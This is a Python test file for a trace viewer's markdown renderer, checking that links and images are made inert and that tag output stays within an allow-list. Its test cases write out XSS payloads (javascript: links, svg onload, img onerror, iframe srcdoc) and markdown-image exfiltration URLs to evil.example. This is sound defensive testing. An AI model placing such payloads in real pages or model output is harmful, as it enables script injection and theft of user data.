"""Markdown on a page: what people write is read, what is hostile does nothing and is seen, nothing is lost."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from tests.support import hostile
from tracekit_viewer import markdown
from tracekit_viewer.markdown import MOST, Marking, html
from tracekit_viewer.text import visible


class Seen(HTMLParser):
    """The tags of a fragment with their attributes, and its text."""

    def __init__(self, source):
        super().__init__()
        self.tags, self.text = [], ""
        self.feed(source)

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


SAFE = {
    "p", "br", "hr", "h4", "h5", "h6", "em", "strong", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a", "span",
    "table", "thead", "tbody", "tr", "th", "td",
}  # fmt: skip
LINK = {"rel": "noopener noreferrer", "target": "_blank"}


def test_what_people_write_is_read():
    made = html("# One\n\nA **b** *c* ~~d~~ `e`.\n\n1. x\n2. y\n\n> q\n\n|h|\n|-|\n|v|\n\n```py\nf < g\n```\n\n---")
    assert [tag for tag, _ in Seen(made).tags] == [
        "h4", "p", "strong", "em", "s", "code", "ol", "li", "li", "blockquote", "p", "table", "thead", "tr", "th",
        "tbody", "tr", "td", "pre", "code", "hr",
    ]  # fmt: skip
    assert "f &lt; g" in made


@pytest.mark.parametrize(
    ("text", "href"),
    [
        ("[t](https://a.b/c?d=1)", "https://a.b/c?d=1"),
        ("[t](http://a.b)", "http://a.b"),
        ("[t](mailto:a@b.c)", "mailto:a@b.c"),
        ("[t][r]\n\n[r]: HTTPS://A.b/ 'title'", "HTTPS://A.b/"),
    ],
)
def test_a_link_says_where_it_leads(text, href):
    seen = Seen(html(text))
    assert [attributes for tag, attributes in seen.tags if tag == "a"] == [{"href": href, **LINK}]
    assert seen.text.strip() == f"t ({href})"
    assert Seen(html("<https://a.b/c>")).text.strip() == "https://a.b/c"


@pytest.mark.parametrize(
    "text",
    [
        "[x](javascript:alert(1))",
        "[x](JaVaScRiPt:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](&#106;avascript:alert(1))",
        "[x](\x01javascript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:x)",
        "[x](file:///etc/passwd)",
        "[x](/traces)",
        "[x](//evil.example)",
        "[x](#error)",
        "<javascript:alert(1)>",
        "[x]: javascript:alert(1)\n\n[x]",
        "<a href='https://evil.example'>x</a>",
        "<svg/onload=alert(1)><script>alert(1)</script>",
        "<img src=https://evil.example/p.png onerror=alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<style>@import 'https://evil.example'</style>",
        "<!-- --><![CDATA[<script>]]>",
    ],
)
def test_what_would_act_is_text(text):
    seen = Seen(html(text))
    assert {tag for tag, _ in seen.tags} <= {"p", "span"}
    for _, attributes in seen.tags:
        assert attributes.keys() <= {"class", "title"}


@pytest.mark.parametrize(
    "text",
    [
        "![secret](https://evil.example/p.png?q=stolen)",
        "[![secret](https://evil.example/p.png?q=stolen)](https://a.b)",
        "![secret][r]\n\n[r]: https://evil.example/p.png?q=stolen",
        "![secret](data:image/svg+xml;base64,PHN2Zz4=)\n![secret](https://evil.example/p.png?q=stolen)",
    ],
)
def test_a_picture_is_its_name_and_its_address_and_is_never_fetched(text):
    made = html(text)
    assert {tag for tag, _ in Seen(made).tags} <= {"p", "a", "span"}
    assert "picture: secret" in Seen(made).text
    assert "(https://evil.example/p.png?q=stolen)" in Seen(made).text
    assert "src=" not in made.replace("&quot;", "")


def test_hostile_text_keeps_within_the_list():
    for text in (
        hostile.MIXTURE,
        f"# {hostile.MIXTURE}",
        f"[{hostile.MIXTURE}](https://a.b)",
        f"```{hostile.MIXTURE}\nx\n```",
    ):
        seen = Seen(html(text))
        assert {tag for tag, _ in seen.tags} <= SAFE
        for tag, attributes in seen.tags:
            assert attributes.keys() <= {"a": {"href", "rel", "target"}, "span": {"class", "title"}}.get(tag, set())
    assert 'class="ctl"' in html("a \u202e b")
    assert Seen(html("[x](https://a.b/\u202egnp)")).text == "x (https://a.b/%E2%80%AEgnp)\n"


def test_a_long_address_is_cut_in_sight_and_says_so():
    seen = Seen(html(f"[x](https://a.b/{'y' * 1_000})"))
    assert seen.text.strip().endswith(f"{'y' * 20} … 712 more characters)")


def test_nothing_is_lost_of_what_is_nested_too_deeply():
    for text in (">" * 400 + " secret", "".join("  " * n + "- secret\n" for n in range(60))):
        found = Marking()(text)
        assert (found.html, found.unmarked) == (None, True)
        assert "secret" in found.head or "secret" in (found.rest or "")
    assert "secret" in html("*a " * 500 + "secret")


def test_a_megabyte_is_read_to_a_bound_and_counted():
    text = "word *em* [l](http://a.b) \n\n" * 40_000
    found = Marking()(text)
    assert len(found.html) + len(found.more) < 10 * MOST
    assert found.left_out == len(text) - 200_000
    shown = Seen(found.html + found.more).text
    assert shown.startswith("word em l (http://a.b)")
    assert found.rest == visible(text[MOST:200_000])
    assert found.folded + found.left_out + text.index("\n\n", 2_400) + 2 == len(text)


@pytest.mark.parametrize("text", ["[" * 50_000, "![a](" * 10_000, "*a_" * 20_000, "`" * 30_000 + " " + "`" * 29_999])
def test_hostile_shapes_end(text):
    assert Marking()(text).length == len(text)


def test_a_page_reads_no_more_than_it_may(monkeypatch):
    marking = Marking(left=10)
    assert (marking("*12345678*").html is not None, marking("*more*").unmarked) == (True, True)


def test_other_content_stays_what_it_was():
    for value in ({"a": 1}, ["x"], '{"a": 1}', None, 3):
        assert Marking()(value).html is None
    assert Marking()("").html == ""


def test_a_fence_is_not_cut_in_two():
    text = "a\n\n" * 700 + "```\n" + "code\n\n" * 1_000 + "```\n\nend"
    assert markdown._paragraph_end(text) >= text.index("```\n\nend")
